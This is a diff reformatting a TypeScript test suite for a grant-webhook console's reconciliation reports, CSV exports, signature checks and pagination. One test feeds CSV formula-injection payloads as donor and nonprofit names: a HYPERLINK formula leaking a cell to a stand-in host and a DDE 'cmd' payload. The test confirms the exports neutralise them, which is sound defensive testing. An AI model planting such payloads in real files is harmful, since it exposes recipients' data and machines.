@@ -33,9 +33,14 @@ const as = (who: keyof typeof cookies, method: string, p: string, body?: unknown
 async function consoleReceiverWebhook(name: string, rightSecret: boolean): Promise<string> {
   const inbox = await as('admin', 'POST', '/api/receivers', { name });
   assert.equal(inbox.status, 201, inbox.text);
-  const created = await call(app, 'POST', '/v1/webhooks', { token: tok, body: { url: `${app.baseUrl}/ingest/${inbox.body.slug}`, eventTypes: ['grant.succeeded'], description: name } });
+  const created = await call(app, 'POST', '/v1/webhooks', {
+    token: tok,
+    body: { url: `${app.baseUrl}/ingest/${inbox.body.slug}`, eventTypes: ['grant.succeeded'], description: name },
+  });
   assert.equal(created.status, 201, created.text);
-  const secret = rightSecret ? (await call(app, 'GET', `/v1/webhooks/${created.body.id}/secret`, { token: tok })).body.key : `whsec_${Buffer.from('not the webhook secret, 32 bytes').toString('base64')}`;
+  const secret = rightSecret
+    ? (await call(app, 'GET', `/v1/webhooks/${created.body.id}/secret`, { token: tok })).body.key
+    : `whsec_${Buffer.from('not the webhook secret, 32 bytes').toString('base64')}`;
   assert.equal((await as('admin', 'PATCH', `/api/receivers/${inbox.body.id}`, { secrets: [secret] })).status, 200);
   slugs[created.body.id] = inbox.body.slug;
   return created.body.id;
@@ -55,15 +60,25 @@ before(async () => {
   const viewer = await as('admin', 'POST', '/api/users', { email: 'viewer-recon@example.org', role: 'viewer' });
   cookies.viewer = await staffCookie(app, { email: 'viewer-recon@example.org', password: viewer.body.password });
   ids.verified = await consoleReceiverWebhook('recon verified', true);
-  const plain = await call(app, 'POST', '/v1/webhooks', { token: tok, body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon plain' } });
+  const plain = await call(app, 'POST', '/v1/webhooks', {
+    token: tok,
+    body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon plain' },
+  });
   ids.plain = plain.body.id;
   ids.badSig = await consoleReceiverWebhook('recon bad signature', false);
-  const off = await call(app, 'POST', '/v1/webhooks', { token: tok, body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon off' } });
+  const off = await call(app, 'POST', '/v1/webhooks', {
+    token: tok,
+    body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon off' },
+  });
   ids.off = off.body.id;
   assert.equal((await call(app, 'PATCH', `/v1/webhooks/${ids.off}`, { token: tok, body: { disabled: true } })).status, 200);
   const keyA = await nonprofitKey('530196605', 'Alpha Food Bank');
   const keyB = await nonprofitKey('131624100', 'Beta Library');
-  for (const [key, amount, ein] of [[keyA, 15000, '530196605'], [keyA, 2500, '530196605'], [keyB, 99900, '131624100']] as const) {
+  for (const [key, amount, ein] of [
+    [keyA, 15000, '530196605'],
+    [keyA, 2500, '530196605'],
+    [keyB, 99900, '131624100'],
+  ] as const) {
     const g = await call(app, 'POST', '/v1/grants', {
       token: tok,
       headers: { 'x-service-api-key': key },
@@ -74,11 +89,20 @@ before(async () => {
   }
   day = dateIn(TZ, new Date(grants[0].createdAt));
   // Every delivery settled: three webhooks got each grant.
-  await eventually(async () => {
-    const r = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
-    const hooks = (r.body.nonprofits ?? []).flatMap((n: any) => n.webhooks);
-    return hooks.length && hooks.filter((w: any) => w.webhookId !== ids.off).every((w: any) => w.delivered === w.sent && w.sent > 0 && (w.received === null || w.received === w.sent));
-  }, 30_000, 'the deliveries to settle');
+  await eventually(
+    async () => {
+      const r = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
+      const hooks = (r.body.nonprofits ?? []).flatMap((n: any) => n.webhooks);
+      return (
+        hooks.length &&
+        hooks
+          .filter((w: any) => w.webhookId !== ids.off)
+          .every((w: any) => w.delivered === w.sent && w.sent > 0 && (w.received === null || w.received === w.sent))
+      );
+    },
+    30_000,
+    'the deliveries to settle',
+  );
 });
 after(async () => {
   await app?.stop();
@@ -86,7 +110,7 @@ after(async () => {
 });
 
 describe('daily reconciliation', () => {
-  test('JSON: totals, each nonprofit per webhook, and the differences in the timeline\'s words', async () => {
+  test("JSON: totals, each nonprofit per webhook, and the differences in the timeline's words", async () => {
     const res = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
     assert.equal(res.status, 200, res.text);
     assert.equal(res.body.date, day);
@@ -98,9 +122,17 @@ describe('daily reconciliation', () => {
     assert.deepEqual([alpha.name, alpha.grants, alpha.amount, alpha.nonprofitId], ['Alpha Food Bank', 2, 17500, ids['530196605']]);
     const hook = (id: string) => alpha.webhooks.find((w: any) => w.webhookId === id);
     assert.deepEqual(hook(ids.verified), { webhookId: ids.verified, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 0 });
-    assert.deepEqual(hook(ids.plain), { webhookId: ids.plain, sent: 2, delivered: 2, received: null, verified: null, suspicious: null }, 'not a receiver of this console: unknown, not zero');
+    assert.deepEqual(
+      hook(ids.plain),
+      { webhookId: ids.plain, sent: 2, delivered: 2, received: null, verified: null, suspicious: null },
+      'not a receiver of this console: unknown, not zero',
+    );
     assert.deepEqual(hook(ids.badSig), { webhookId: ids.badSig, sent: 2, delivered: 2, received: 2, verified: 0, suspicious: 0 });
-    assert.deepEqual(hook(ids.off), { webhookId: ids.off, sent: 0, delivered: 0, received: null, verified: null, suspicious: null }, 'disabled before the grants: never sent');
+    assert.deepEqual(
+      hook(ids.off),
+      { webhookId: ids.off, sent: 0, delivered: 0, received: null, verified: null, suspicious: null },
+      'disabled before the grants: never sent',
+    );
     const diffs = res.body.differences as { trackingId: string; grantId: string; webhookId: string; state: string }[];
     const of = (w: string) => diffs.filter((d) => d.webhookId === w).map((d) => d.state);
     assert.deepEqual(of(ids.verified), []);
@@ -116,13 +148,27 @@ describe('daily reconciliation', () => {
     for (const nonprofit of ['13-1624100', ids['131624100']]) {
       const res = await as('admin', 'GET', `/api/reconciliation?date=${day}&nonprofit=${nonprofit}`);
       assert.equal(res.status, 200, res.text);
-      assert.deepEqual(res.body.nonprofits.map((n: any) => n.name), ['Beta Library']);
+      assert.deepEqual(
+        res.body.nonprofits.map((n: any) => n.name),
+        ['Beta Library'],
+      );
       assert.deepEqual(res.body.totals, { grants: 1, amount: 99900, fee: 2897, net: 97003, currency: 'USD', differences: 2, suspicious: 0 });
     }
     const empty = await as('admin', 'GET', '/api/reconciliation?date=2020-01-01');
-    assert.deepEqual([empty.body.totals, empty.body.nonprofits, empty.body.differences], [{ grants: 0, amount: 0, fee: 0, net: 0, currency: 'USD', differences: 0, suspicious: 0 }, [], []]);
+    assert.deepEqual(
+      [empty.body.totals, empty.body.nonprofits, empty.body.differences],
+      [{ grants: 0, amount: 0, fee: 0, net: 0, currency: 'USD', differences: 0, suspicious: 0 }, [], []],
+    );
     // A day the service's dates cannot hold (its range ends after 9999-12-31T23:59:59Z) is named here, not passed on to come back as an "Upstream error".
-    for (const [q, field] of [['date=2026-02-30', 'date'], ['date=yesterday', 'date'], ['date=9999-12-31', 'date'], ['date=1969-12-31', 'date'], ['format=xml', 'format'], ['nonprofit=acme', 'nonprofit'], ['includeDonor=maybe', 'includeDonor']] as const) {
+    for (const [q, field] of [
+      ['date=2026-02-30', 'date'],
+      ['date=yesterday', 'date'],
+      ['date=9999-12-31', 'date'],
+      ['date=1969-12-31', 'date'],
+      ['format=xml', 'format'],
+      ['nonprofit=acme', 'nonprofit'],
+      ['includeDonor=maybe', 'includeDonor'],
+    ] as const) {
       const res = await as('admin', 'GET', `/api/reconciliation?${q}`);
       assert.equal(res.status, 400, `${q}: ${res.text}`);
       assert.equal(res.body.title, 'Bad Request', res.text);
@@ -144,14 +190,23 @@ describe('daily reconciliation', () => {
     assert.equal(rows.length, 3 * 4);
     for (const col of ['tracking_id', 'grant_id', 'webhook_id', 'state']) assert.ok(col in rows[0], col);
     const row = rows.find((r) => r.webhook_id === ids.badSig && r.grant_id === grants[2].id)!;
-    assert.deepEqual([row.tracking_id, row.ein, row.amount_cents, row.state, row.service_status, row.received, row.verified, row.arrivals], [grants[2].trackingId, '131624100', '99900', 'received-bad-signature', 'success', 'yes', 'no', '1']);
+    assert.deepEqual(
+      [row.tracking_id, row.ein, row.amount_cents, row.state, row.service_status, row.received, row.verified, row.arrivals],
+      [grants[2].trackingId, '131624100', '99900', 'received-bad-signature', 'success', 'yes', 'no', '1'],
+    );
     assert.equal(rows.find((r) => r.webhook_id === ids.off)!.service_status, 'not queued');
-    assert.ok(rows.every((r) => r.donor_email === '[redacted]' && r.donor_first_name === '[redacted]'), 'no donor details unless asked for');
+    assert.ok(
+      rows.every((r) => r.donor_email === '[redacted]' && r.donor_first_name === '[redacted]'),
+      'no donor details unless asked for',
+    );
     const withDonor = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv&includeDonor=1`, { headers: { cookie: cookies.admin } });
     const full = parse(await withDonor.text(), { columns: true }) as Record<string, string>[];
     assert.ok(full.every((r) => r.donor_email === 'ada.recon@example.org' && r.donor_last_name === 'Lovelace'));
     const audit = await as('admin', 'GET', '/api/audit?action=export');
-    assert.ok(audit.body.results.some((r: any) => r.detail.kind === 'reconciliation' && r.detail.includeDonor === true), audit.text);
+    assert.ok(
+      audit.body.results.some((r: any) => r.detail.kind === 'reconciliation' && r.detail.includeDonor === true),
+      audit.text,
+    );
   });
 
   // Issue 50.3: finance files the CSV. Money in decimal with its currency (the service's fee and what
@@ -180,7 +235,10 @@ describe('daily reconciliation', () => {
     );
     // 999.00 at the service's 2.9 %: a fee of 28.97 (its feeAmount 2897), the nonprofit nets 970.03.
     assert.equal(service.body.feeAmount, 2897);
-    assert.deepEqual([verified.amount, verified.fee, verified.fee_covered_by_donor, verified.net, verified.currency, verified.amount_cents], ['999.00', '28.97', 'no', '970.03', 'USD', '99900']);
+    assert.deepEqual(
+      [verified.amount, verified.fee, verified.fee_covered_by_donor, verified.net, verified.currency, verified.amount_cents],
+      ['999.00', '28.97', 'no', '970.03', 'USD', '99900'],
+    );
     const flags = (r: Record<string, string>) => [r.service_status, r.delivered, r.console_receiver, r.received, r.verified, r.arrivals, r.state, r.difference];
     assert.deepEqual(flags(verified), ['success', 'yes', 'yes', 'yes', 'yes', '1', 'delivered-and-received', 'no']);
     assert.deepEqual(flags(of(ids.plain)), ['success', 'yes', 'no', '', '', '', 'not-observed', 'no'], 'an endpoint this console cannot see: unknown, not no');
@@ -192,16 +250,25 @@ describe('daily reconciliation', () => {
     assert.equal(rows.filter((r) => r.first_row_of_grant === 'no').length, 3 * 3);
     assert.equal(firsts.reduce((sum, r) => sum + Number(r.amount), 0).toFixed(2), ((15000 + 2500 + 99900) / 100).toFixed(2));
     const json = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
-    assert.deepEqual([json.body.totals.fee, json.body.totals.net, json.body.totals.currency], [firsts.reduce((s2, r) => s2 + Math.round(Number(r.fee) * 100), 0), firsts.reduce((s2, r) => s2 + Math.round(Number(r.net) * 100), 0), 'USD']);
+    assert.deepEqual(
+      [json.body.totals.fee, json.body.totals.net, json.body.totals.currency],
+      [firsts.reduce((s2, r) => s2 + Math.round(Number(r.fee) * 100), 0), firsts.reduce((s2, r) => s2 + Math.round(Number(r.net) * 100), 0), 'USD'],
+    );
 
     // The dictionary: every column in order with its meaning, as JSON, on the page, and in the guide.
     const dictionary = await as('viewer', 'GET', '/api/reconciliation/columns');
     assert.equal(dictionary.status, 200, dictionary.text);
-    assert.deepEqual(dictionary.body.columns.map((c: any) => c.name), Object.keys(rows[0]));
-    assert.ok(dictionary.body.columns.every((c: any) => c.meaning.length > 10), dictionary.text);
+    assert.deepEqual(
+      dictionary.body.columns.map((c: any) => c.name),
+      Object.keys(rows[0]),
+    );
+    assert.ok(
+      dictionary.body.columns.every((c: any) => c.meaning.length > 10),
+      dictionary.text,
+    );
     assert.equal((await call(app, 'GET', '/api/reconciliation/columns')).status, 401);
     const guide = fs.readFileSync(path.resolve(import.meta.dirname, '../../docs/GUIDE.md'), 'utf8');
-    const documented = [...guide.slice(guide.indexOf('### The CSV\'s columns')).matchAll(/^\| `([a-z_]+)` \|/gm)].map((m) => m[1]);
+    const documented = [...guide.slice(guide.indexOf("### The CSV's columns")).matchAll(/^\| `([a-z_]+)` \|/gm)].map((m) => m[1]);
     assert.deepEqual(documented, Object.keys(rows[0]), 'docs/GUIDE.md lists the columns in order');
     const page = await (await fetch(`${app.baseUrl}/reconciliation?date=${day}`, { headers: { cookie: cookies.viewer } })).text();
     for (const name of Object.keys(rows[0])) assert.ok(page.includes(`>${name}</dt>`), `the page's dictionary names ${name}`);
@@ -223,13 +290,22 @@ describe('daily reconciliation', () => {
     assert.ok(!html.includes('ada.recon@example.org'));
   });
 
-  test('the service extension: GET /v1/grants/deliveries streams the range\'s grants with their deliveries', async () => {
+  test("the service extension: GET /v1/grants/deliveries streams the range's grants with their deliveries", async () => {
     const { after: from, before: to } = dayRange(day, TZ);
-    const res = await fetch(`${app.baseUrl}/v1/grants/deliveries?after=${from}&before=${to}&nonprofit=530196605`, { headers: { authorization: `Bearer ${tok}` } });
+    const res = await fetch(`${app.baseUrl}/v1/grants/deliveries?after=${from}&before=${to}&nonprofit=530196605`, {
+      headers: { authorization: `Bearer ${tok}` },
+    });
     assert.equal(res.status, 200);
     assert.match(res.headers.get('content-type') ?? '', /application\/x-ndjson/);
-    const lines = (await res.text()).trim().split('\n').map((l) => JSON.parse(l));
-    assert.deepEqual(lines.map((l) => l.grantId), grants.filter((g) => g.ein === '530196605').map((g) => g.id), 'oldest first');
+    const lines = (await res.text())
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
+    assert.deepEqual(
+      lines.map((l) => l.grantId),
+      grants.filter((g) => g.ein === '530196605').map((g) => g.id),
+      'oldest first',
+    );
     assert.deepEqual(lines[0].deliveries.map((d: any) => d.webhookId).sort(), [ids.verified, ids.plain, ids.badSig].sort());
     assert.equal(lines[0].deliveries[0].status, 'success');
     const bad = await call(app, 'GET', `/v1/grants/deliveries?after=${to}&before=${from}`, { token: tok });
@@ -267,10 +343,15 @@ describe('daily reconciliation', () => {
     const diffs = (res.body.differences as { webhookId: string; trackingId: string }[]).filter((d) => d.webhookId === ids.verified);
     assert.deepEqual(diffs, [], 'a verified delivery stays verified');
     assert.equal(res.body.totals.differences, 6);
-    assert.deepEqual(res.body.suspicious, [{ trackingId: g.trackingId, grantId: g.id, nonprofitId: ids[g.ein], webhookId: ids.verified, state: 'delivered-and-received', arrivals: 1 }]);
+    assert.deepEqual(res.body.suspicious, [
+      { trackingId: g.trackingId, grantId: g.id, nonprofitId: ids[g.ein], webhookId: ids.verified, state: 'delivered-and-received', arrivals: 1 },
+    ]);
     assert.equal(res.body.totals.suspicious, 1);
     const alpha = res.body.nonprofits.find((n: any) => n.ein === g.ein);
-    assert.deepEqual(alpha.webhooks.find((w: any) => w.webhookId === ids.verified), { webhookId: ids.verified, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 1 });
+    assert.deepEqual(
+      alpha.webhooks.find((w: any) => w.webhookId === ids.verified),
+      { webhookId: ids.verified, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 1 },
+    );
 
     const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv`, { headers: { cookie: cookies.admin } });
     const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
@@ -287,14 +368,28 @@ describe('daily reconciliation', () => {
     assert.match(item.explanation, /^delivered: arrived .*; a suspicious arrival at .*do not resend.*rotate its URL and signing secret/);
     assert.doesNotMatch(item.explanation, /resend to check/);
     const group = problems.body.groups.find((gr: any) => gr.webhook.id === ids.verified);
-    assert.deepEqual(group.counts.map((c: any) => [c.key, c.count]), [['suspicious-arrival', 1]]);
+    assert.deepEqual(
+      group.counts.map((c: any) => [c.key, c.count]),
+      [['suspicious-arrival', 1]],
+    );
     const page = await (await fetch(`${app.baseUrl}/problems`, { headers: { cookie: cookies.admin } })).text();
-    assert.match(page, new RegExp(`data-message-id="${message.id}" data-webhook-id="${ids.verified}" data-reconciliation="delivered-and-received" data-kind="suspicious-arrival"`));
+    assert.match(
+      page,
+      new RegExp(
+        `data-message-id="${message.id}" data-webhook-id="${ids.verified}" data-reconciliation="delivered-and-received" data-kind="suspicious-arrival"`,
+      ),
+    );
 
     const found = await as('admin', 'GET', `/api/search?q=${g.trackingId}`);
     const delivery = found.body.messages.find((m: any) => m.id === message.id).deliveries.find((d: any) => d.webhook.id === ids.verified);
     assert.equal(delivery.reconciliation, 'delivered-and-received');
-    assert.deepEqual(delivery.receipts.map((r: any) => [r.verdict, r.suspicious ?? false]), [['valid', false], ['invalid signature', true]]);
+    assert.deepEqual(
+      delivery.receipts.map((r: any) => [r.verdict, r.suspicious ?? false]),
+      [
+        ['valid', false],
+        ['invalid signature', true],
+      ],
+    );
     assert.match(delivery.explanation, /a suspicious arrival at .*not from the service/);
     const receiptPage = await (await fetch(`${app.baseUrl}/receipts/${delivery.receipts[1].id}`, { headers: { cookie: cookies.admin } })).text();
     assert.match(receiptPage, /Suspicious arrival: not from the service/);
@@ -314,13 +409,25 @@ describe('formulas in CSV cells', () => {
   const NAMES = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\uFF1D1+1'];
 
   test('the timeline export and the reconciliation write a formula-like donor or nonprofit name as text', async () => {
-    const np = await call(app, 'POST', '/v1/nonprofits', { token: tok, body: { ein: '043167352', name: '@SUM(1+1) Formula Friends', user: { email: 'ops-formula@example.org' } } });
+    const np = await call(app, 'POST', '/v1/nonprofits', {
+      token: tok,
+      body: { ein: '043167352', name: '@SUM(1+1) Formula Friends', user: { email: 'ops-formula@example.org' } },
+    });
     assert.ok([200, 201].includes(np.status), np.text);
     const cid = (await call(app, 'POST', `/v1/connects?nonprofit=${np.body.id}`, { token: tok })).body.id as string;
     const days = new Set([dateIn(TZ)]);
     for (const [i, name] of NAMES.entries()) {
-      const fields = { fundId: 'vanguard-charitable', amount: `${10 + i}`, firstName: name, lastName: name, email: `${i % 2 ? '-' : '+'}donor${i}@example.org` };
-      const res = await call(app, 'POST', `/connect/${cid}/give`, { raw: new URLSearchParams(fields).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
+      const fields = {
+        fundId: 'vanguard-charitable',
+        amount: `${10 + i}`,
+        firstName: name,
+        lastName: name,
+        email: `${i % 2 ? '-' : '+'}donor${i}@example.org`,
+      };
+      const res = await call(app, 'POST', `/connect/${cid}/give`, {
+        raw: new URLSearchParams(fields).toString(),
+        headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      });
       assert.equal(res.status, 303, res.text);
       assert.match(res.headers.get('location') ?? '', /\/thanks\?t=GC-/, `${name}: ${res.headers.get('location')}`);
     }
@@ -331,22 +438,38 @@ describe('formulas in CSV cells', () => {
       assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
       return parse(await res.text()) as string[][];
     };
-    const recon = (await Promise.all([...days].map((d) => read(`/api/reconciliation?date=${d}&nonprofit=${np.body.id}&format=csv&includeDonor=1`)))).flatMap((rows, i) => (i ? rows.slice(1) : rows));
+    const recon = (await Promise.all([...days].map((d) => read(`/api/reconciliation?date=${d}&nonprofit=${np.body.id}&format=csv&includeDonor=1`)))).flatMap(
+      (rows, i) => (i ? rows.slice(1) : rows),
+    );
     const files = { timeline: await read(`/api/webhooks/${ids.verified}/export?format=csv&includeDonor=1`), reconciliation: recon };
     for (const [file, rows] of Object.entries(files)) {
       const cells = rows.flat();
       // The names are there (the test reads what it fed), each written as text.
-      for (const name of NAMES) assert.ok(cells.some((c) => c.startsWith(`'${name}`)), `${file}: ${name} written with its apostrophe:\n${JSON.stringify(rows.slice(0, 8))}`);
-      assert.deepEqual(cells.filter((c) => FORMULA.test(c) && !/^-\d+(\.\d+)?$/.test(c)), [], `${file}: no cell starts like a formula`);
+      for (const name of NAMES)
+        assert.ok(
+          cells.some((c) => c.startsWith(`'${name}`)),
+          `${file}: ${name} written with its apostrophe:\n${JSON.stringify(rows.slice(0, 8))}`,
+        );
+      assert.deepEqual(
+        cells.filter((c) => FORMULA.test(c) && !/^-\d+(\.\d+)?$/.test(c)),
+        [],
+        `${file}: no cell starts like a formula`,
+      );
     }
     // Numbers stay numbers: the amount column is summable.
     const [head, ...body] = recon;
     const col = (name: string) => body.map((r) => r[head.indexOf(name)]);
     assert.equal(body.length, NAMES.length * 4, 'a row per grant × webhook');
-    assert.ok(col('amount_cents').every((a) => /^\d+$/.test(a)), 'amounts are plain numbers');
+    assert.ok(
+      col('amount_cents').every((a) => /^\d+$/.test(a)),
+      'amounts are plain numbers',
+    );
     assert.deepEqual(new Set(col('nonprofit_name')), new Set(["'@SUM(1+1) Formula Friends"]));
     assert.deepEqual(new Set(col('donor_first_name')), new Set(NAMES.map((n) => `'${n}`)));
-    assert.ok(col('donor_email').includes("'-donor1@example.org") && col('donor_email').includes("'+donor0@example.org"), 'an e-mail address starting with - or + too');
+    assert.ok(
+      col('donor_email').includes("'-donor1@example.org") && col('donor_email').includes("'+donor0@example.org"),
+      'an e-mail address starting with - or + too',
+    );
   });
 });
 
@@ -362,11 +485,19 @@ describe('finance: a 500 drill, a covered fee, and every grant on the page', () 
     const { after: from, before: to } = dayRange(drill.day, TZ);
     const res = await fetch(`${app.baseUrl}/v1/grants/deliveries?after=${from}&before=${to}&nonprofit=${EIN}`, { headers: { authorization: `Bearer ${tok}` } });
     assert.equal(res.status, 200);
-    return (await res.text()).trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
+    return (await res.text())
+      .trim()
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l));
   };
   const onDrill = async () => (await lines()).flatMap((l) => l.deliveries.filter((d) => d.webhookId === drill.webhook));
   const give = async (amount: number, coveredFees: boolean) => {
-    const g = await call(app, 'POST', '/v1/grants', { token: tok, headers: { 'x-service-api-key': drill.key }, body: { amount, coveredFees, fundId: 'schwab-charitable', firstName: 'Grace', lastName: 'Hopper', email: 'grace.recon@example.org' } });
+    const g = await call(app, 'POST', '/v1/grants', {
+      token: tok,
+      headers: { 'x-service-api-key': drill.key },
+      body: { amount, coveredFees, fundId: 'schwab-charitable', firstName: 'Grace', lastName: 'Hopper', email: 'grace.recon@example.org' },
+    });
     assert.equal(g.status, 201, g.text);
     return { id: g.body.id as string, trackingId: g.body.trackingId as string, createdAt: g.body.createdAt as string };
   };
@@ -389,15 +520,23 @@ describe('finance: a 500 drill, a covered fee, and every grant on the page', () 
     drill.grants.push(await give(2500, true), await give(1000, false));
     drill.day = dateIn(TZ, new Date(drill.grants[0].createdAt));
     assert.equal(dateIn(TZ, new Date(drill.grants[1].createdAt)), drill.day, 'both grants on one day (not across midnight)');
-    await eventually(async () => {
-      const ds = await onDrill();
-      return ds.length === 2 && ds.every((d) => d.attemptCount >= 1 && d.lastResponseStatusCode === 500);
-    }, 30_000, 'the drill answering 500');
+    await eventually(
+      async () => {
+        const ds = await onDrill();
+        return ds.length === 2 && ds.every((d) => d.attemptCount >= 1 && d.lastResponseStatusCode === 500);
+      },
+      30_000,
+      'the drill answering 500',
+    );
     assert.equal((await as('admin', 'PATCH', `/api/receivers/${drill.receiver}`, { responseStatus: 200 })).status, 200);
-    const settled = await eventually(async () => {
-      const ds = await onDrill();
-      return ds.length === 2 && ds.every((d) => d.status === 'success') && ds;
-    }, 30_000, 'the retries to succeed');
+    const settled = await eventually(
+      async () => {
+        const ds = await onDrill();
+        return ds.length === 2 && ds.every((d) => d.status === 'success') && ds;
+      },
+      30_000,
+      'the retries to succeed',
+    );
     const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${drill.day}&nonprofit=${EIN}&format=csv`, { headers: { cookie: cookies.admin } });
     const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
     assert.equal(rows.length, 2 * 5, 'a row per grant × webhook: the four above and the drill');
@@ -413,7 +552,10 @@ describe('finance: a 500 drill, a covered fee, and every grant on the page', () 
       assert.equal(rows.filter((r) => r.grant_id === g.id && r.first_row_of_grant === 'yes').length, 1);
     }
     const covered = rows.find((r) => r.grant_id === drill.grants[0].id)!;
-    assert.deepEqual([covered.amount, covered.fee, covered.fee_covered_by_donor, covered.net, covered.fund_name], ['25.00', '0.73', 'yes', '25.00', 'Schwab Charitable']);
+    assert.deepEqual(
+      [covered.amount, covered.fee, covered.fee_covered_by_donor, covered.net, covered.fund_name],
+      ['25.00', '0.73', 'yes', '25.00', 'Schwab Charitable'],
+    );
     const uncovered = rows.find((r) => r.grant_id === drill.grants[1].id)!;
     assert.deepEqual([uncovered.amount, uncovered.fee, uncovered.fee_covered_by_donor, uncovered.net], ['10.00', '0.29', 'no', '9.71']);
     const json = await as('admin', 'GET', `/api/reconciliation?date=${drill.day}&nonprofit=${EIN}`);
@@ -425,31 +567,56 @@ describe('finance: a 500 drill, a covered fee, and every grant on the page', () 
   test('the page lists the grants with a difference, or every grant of the day, 50 a page; a bad query is said in words', async () => {
     // From now on the disabled webhook and the one with the wrong secret take no grants: the grants
     // made next reconcile once delivered, the two above still differ (the wrong secret's arrivals).
-    for (const id of [ids.off, ids.badSig]) assert.equal((await call(app, 'PATCH', `/v1/webhooks/${id}`, { token: tok, body: { eventTypes: ['webhook.recovered'] } })).status, 200);
+    for (const id of [ids.off, ids.badSig])
+      assert.equal((await call(app, 'PATCH', `/v1/webhooks/${id}`, { token: tok, body: { eventTypes: ['webhook.recovered'] } })).status, 200);
     for (let i = 0; i < 49; i++) {
       const g = await give(100 + i, false);
       assert.equal(dateIn(TZ, new Date(g.createdAt)), drill.day, 'every grant on one day (not across midnight)');
     }
-    await eventually(async () => {
-      const r = await as('admin', 'GET', `/api/reconciliation?date=${drill.day}&nonprofit=${EIN}`);
-      return r.body.totals?.grants === 51 && r.body.differences.length === 2;
-    }, 60_000, 'the 49 grants delivered, the two drill grants differing on the wrong secret');
+    await eventually(
+      async () => {
+        const r = await as('admin', 'GET', `/api/reconciliation?date=${drill.day}&nonprofit=${EIN}`);
+        return r.body.totals?.grants === 51 && r.body.differences.length === 2;
+      },
+      60_000,
+      'the 49 grants delivered, the two drill grants differing on the wrong secret',
+    );
 
     const differing = await page('');
-    assert.deepEqual(differing.grants, drill.grants.map((g) => g.trackingId), 'by default the grants with a difference');
+    assert.deepEqual(
+      differing.grants,
+      drill.grants.map((g) => g.trackingId),
+      'by default the grants with a difference',
+    );
     assert.match(differing.html, /With a difference \(2\)/);
     assert.match(differing.html, /All grants \(51\)/);
     assert.match(differing.html, /received, signature not verified/);
 
     const first = await page('&show=all');
     assert.equal(first.grants.length, 50, 'a page of 50');
-    assert.deepEqual(first.grants.slice(0, 2), drill.grants.map((g) => g.trackingId), 'in the order they were made');
+    assert.deepEqual(
+      first.grants.slice(0, 2),
+      drill.grants.map((g) => g.trackingId),
+      'in the order they were made',
+    );
     assert.ok(first.html.includes('1–50 of 51, in the order they were made'));
     assert.ok(first.html.includes(`href="/reconciliation?date=${drill.day}&amp;nonprofit=${EIN}&amp;show=all&amp;page=2"`), 'a link to page 2');
     assert.match(first.html, /Page 1 of 2/);
     const g0 = drill.grants[0];
-    const row = first.html.slice(first.html.indexOf(`data-tracking-id="${g0.trackingId}"`), first.html.indexOf(`data-tracking-id="${drill.grants[1].trackingId}"`));
-    for (const text of ['$25.00', '$0.73', 'covered by donor', 'Schwab Charitable', 'Initiated', 'Gamma Shelter', new Date(g0.createdAt).toLocaleString('sv-SE', { timeZone: TZ })]) assert.ok(row.includes(text), `${text} in ${row}`);
+    const row = first.html.slice(
+      first.html.indexOf(`data-tracking-id="${g0.trackingId}"`),
+      first.html.indexOf(`data-tracking-id="${drill.grants[1].trackingId}"`),
+    );
+    for (const text of [
+      '$25.00',
+      '$0.73',
+      'covered by donor',
+      'Schwab Charitable',
+      'Initiated',
+      'Gamma Shelter',
+      new Date(g0.createdAt).toLocaleString('sv-SE', { timeZone: TZ }),
+    ])
+      assert.ok(row.includes(text), `${text} in ${row}`);
     assert.ok(first.html.includes(`Made (${TZ})`), 'the zone of the times, named');
 
     const second = await page('&show=all&page=2');
@@ -458,7 +625,11 @@ describe('finance: a 500 drill, a covered fee, and every grant on the page', () 
     assert.match(second.html, /← Previous/);
     assert.deepEqual((await page('&show=all&page=3')).grants, []);
     assert.match((await page('&show=all&page=3')).html, /There is no page 3/);
-    for (const [q, said] of [['&page=0', /page: must be a page number, 1 or more/], ['&page=two', /page: must be a page number, 1 or more/], ['&show=everything', /show: must be differences or all/]] as const) {
+    for (const [q, said] of [
+      ['&page=0', /page: must be a page number, 1 or more/],
+      ['&page=two', /page: must be a page number, 1 or more/],
+      ['&show=everything', /show: must be differences or all/],
+    ] as const) {
       const bad = await page(q);
       assert.deepEqual(bad.grants, [], q);
       assert.match(bad.html, said, q);
